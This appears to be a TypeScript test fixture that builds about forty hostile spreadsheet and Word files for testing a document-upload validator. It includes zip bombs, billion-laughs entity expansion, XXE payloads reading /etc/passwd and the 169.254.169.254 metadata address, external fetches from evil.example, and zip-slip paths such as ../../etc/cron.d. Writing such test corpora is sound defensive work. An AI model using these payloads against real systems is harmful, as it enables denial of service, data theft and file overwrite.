import { buildZip, workbookParts, type ZipPart } from './zip-builder.ts'

/** A file made to harm whoever opens it. */
export interface HostileFile {
  readonly what: string
  readonly kind: 'table' | 'word'
  readonly bytes: Uint8Array
}

const MIB = 1024 * 1024
const ROW = '<row r="1"><c r="A1" t="inlineStr"><is><t>村</t></is></c></row>'
const RELATION = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const zeros = (mebibytes: number) => new Uint8Array(mebibytes * MIB)

const table = (what: string, ...more: readonly ZipPart[]): HostileFile => ({
  ...{ what, kind: 'table' },
  bytes: buildZip(workbookParts(ROW, more)),
})
/** The sheet itself is the weapon. */
const sheet = (what: string, content: string | Uint8Array, more: Partial<ZipPart> = {}): HostileFile => ({
  ...{ what, kind: 'table' },
  bytes: buildZip(
    workbookParts(ROW).map((part) => (part.name.includes('sheet1') ? { ...part, content, ...more } : part)),
  ),
})
const word = (what: string, document: string, ...more: readonly ZipPart[]): HostileFile => ({
  ...{ what, kind: 'word' },
  bytes: buildZip([{ name: 'word/document.xml', content: document }, ...more]),
})
const raw = (kind: HostileFile['kind'], what: string, bytes: Uint8Array): HostileFile => ({
  what,
  kind,
  bytes,
})

const lol = (depth: number) =>
  Array.from({ length: depth }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')
const laughs = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">${lol(9)}]><worksheet>&l9;</worksheet>`
const outside = (name: string, target: string) =>
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e ${name} "${target}">]><x>&e;</x>`
const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="r9" Type="${RELATION}/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const rels = 'xl/worksheets/_rels/sheet1.xml.rels'

/** Many names for one packed megabyte. */
function overlapping(): Uint8Array {
  const one = Buffer.from(buildZip([{ name: 'xl/workbook.xml', content: zeros(7) }]))
  const at = one.indexOf(Buffer.from([0x50, 0x4b, 1, 2]))
  const header = one.subarray(at, one.length - 22)
  const headers = Array.from({ length: 40 }, (_, number) => {
    const copy = Buffer.from(header)
    copy.write(String(number).padStart(2, '0'), copy.length - 6)
    return copy
  })
  const central = Buffer.concat(headers)
  const end = Buffer.from(one.subarray(one.length - 22))
  end.writeUInt16LE(headers.length, 8)
  end.writeUInt16LE(headers.length, 10)
  end.writeUInt32LE(central.length, 12)
  return Buffer.concat([one.subarray(0, at), central, end])
}

/** The directory points outside, or at itself. */
function pointingAt(offset: number): Uint8Array {
  const file = Buffer.from(buildZip(workbookParts(ROW)))
  file.writeUInt32LE(offset, file.length - 6)
  return file
}

function wrongChecksum(): Uint8Array {
  const file = Buffer.from(buildZip(workbookParts(ROW)))
  const central = file.lastIndexOf(Buffer.from([0x50, 0x4b, 1, 2]))
  file[central + 16] = (file[central + 16] ?? 0) ^ 0xff
  return file
}

const small = buildZip([{ name: 'a.txt', content: 'x' }])
const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(small)])

/** Forty of them: bombs, entities, ways out of the folder, ways out of the machine, and files that are two things. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  sheet('a flat bomb', zeros(64)),
  sheet('a bomb below the ratio of one part', zeros(9)),
  sheet('a bomb that says it is small', zeros(32), { claimedSize: 100 }),
  sheet('a bomb that says it is empty', zeros(16), { claimedSize: 0 }),
  table('many parts of seven megabytes', ...parts(20, zeros(7), 900)),
  raw('table', 'forty names for one part', overlapping()),
  table('more parts than any file has', ...parts(2000, 'x')),
  table('an archive inside', { name: 'xl/embeddings/a.zip', content: small }),
  table('an archive inside an archive', {
    name: 'xl/embeddings/b.docx',
    content: buildZip([{ name: 'c.zip', content: small }]),
  }),
  sheet('a billion laughs', laughs),
  sheet('a quadratic blow-up', `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(MIB)}">]><x>${'&a;'.repeat(9999)}</x>`),
  sheet('a file of this machine', outside('SYSTEM', 'file:///etc/passwd')),
  sheet('an address inside the network', outside('SYSTEM', 'http://169.254.169.254/latest/meta-data')),
  sheet('a public identifier', outside('PUBLIC "-//x//y"', 'http://evil.example/x.dtd')),
  sheet('a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>'),
  sheet('a document type in capitals', '<!DocType x SYSTEM "http://evil.example/x"><x/>'),
  table('a way up', { name: '../../etc/cron.d/x', content: 'x' }),
  table('a way up with backslashes', { name: '..\\..\\windows\\x', content: 'x' }),
  table('a way up in the middle', { name: 'xl/../../x', content: 'x' }),
  table('an absolute path', { name: '/etc/passwd', content: 'x' }),
  table('a drive', { name: 'C:\\windows\\x', content: 'x' }),
  table('a link', { name: 'xl/link', content: '/etc/passwd', unixMode: 0o120777 }),
  table('a password', { name: 'xl/secret', content: 'x', flags: 1 }),
  table('a macro', { name: 'xl/vbaProject.bin', content: 'x' }),
  table('an old macro sheet', { name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }),
  table('another workbook', { name: rels, content: relation('externalLink', 'file://server/share/x.xlsx') }),
  table('a picture from outside', { name: rels, content: relation('image', 'http://evil.example/x.png') }),
  table('an object from outside', { name: rels, content: relation('oleObject', '\\\\server\\x') }),
  table('a connection', { name: 'xl/connections.xml', content: '<connections/>' }),
  table('one name twice', { name: 'xl/workbook.xml', content: 'x' }),
  raw('table', 'a wrong checksum', wrongChecksum()),
  raw('table', 'a directory that lies outside', pointingAt(0xfffffff0)),
  raw('table', 'a directory that is its own file', pointingAt(0)),
  raw('table', 'half a file', buildZip(workbookParts(ROW)).subarray(0, 200)),
  raw('table', 'a PDF that is an archive too', pdf),
  raw('table', 'twenty-one megabytes', zeros(21)),
  word('a Word bomb', `<w:document>${' '.repeat(16 * MIB)}</w:document>`),
  word('laughs in Word', laughs),
  word('a macro in Word', '<w:document/>', { name: 'word/vbaProject.bin', content: 'x' }),
  word('a frame from outside in Word', '<w:document/>', {
    name: 'word/_rels/document.xml.rels',
    content: relation('frame', 'http://evil.example/'),
  }),
]

/** Parts whose packed size is large enough to look harmless one by one. */
function parts(count: number, content: string | Uint8Array, noise = 0): readonly ZipPart[] {
  return Array.from({ length: count }, (_, at) => ({
    name: `xl/part${at}.xml`,
    content: noise === 0 ? content : withNoise(content, noise),
  }))
}

function withNoise(content: string | Uint8Array, kibibytes: number): Uint8Array {
  const bytes = Buffer.from(content)
  for (let at = 0; at < kibibytes * 1024; at++) bytes[at] = (at * 2_654_435_761) >>> 13
  return bytes
}
